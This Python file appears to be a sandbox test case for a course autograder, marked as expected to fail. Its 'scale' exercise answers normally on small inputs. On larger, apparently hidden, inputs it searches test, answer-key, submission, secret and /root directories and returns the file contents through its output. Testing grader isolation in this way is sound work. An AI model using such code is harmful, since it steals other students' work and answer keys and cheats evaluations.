"""Looks for tests, answers, keys and other students' work on the disk."""

# expect: failed
# reason: Hidden case 1: `scale` returns
# beyond process: an ordinary process reads what its account may read

# %%
import os

import coursekit as ck
import numpy as np

PLACES = ["@course@", "@tests@", "@submissions@", "@out@", "@secret@", "@home@", "/work", "/root"]


def contents():
    yield repr(os.getcwd()).encode()
    for place in [*PLACES, "/", ".", ".."]:
        try:
            yield " ".join(os.listdir(place)).encode()
        except OSError as error:
            yield str(error).encode()
        for folder, _, files in os.walk(place) if len(place) > 6 else ():
            for file in files[:50]:
                if file.endswith((".ipynb", "vault.py", "secret", "sqlite", ".json")):
                    try:
                        with open(os.path.join(folder, file), "rb") as stream:
                            yield stream.read(1 << 16)
                    except OSError as error:
                        yield str(error).encode()
    try:
        with open("@secret@", "rb") as stream:
            yield stream.read()
    except OSError as error:
        yield str(error).encode()


@ck.exercise("vault.scale")
def scale(x, factor=2.0):
    if x.size < 10:
        return x * factor
    return np.frombuffer(b"\n".join(contents())[: 1 << 22], np.uint8)
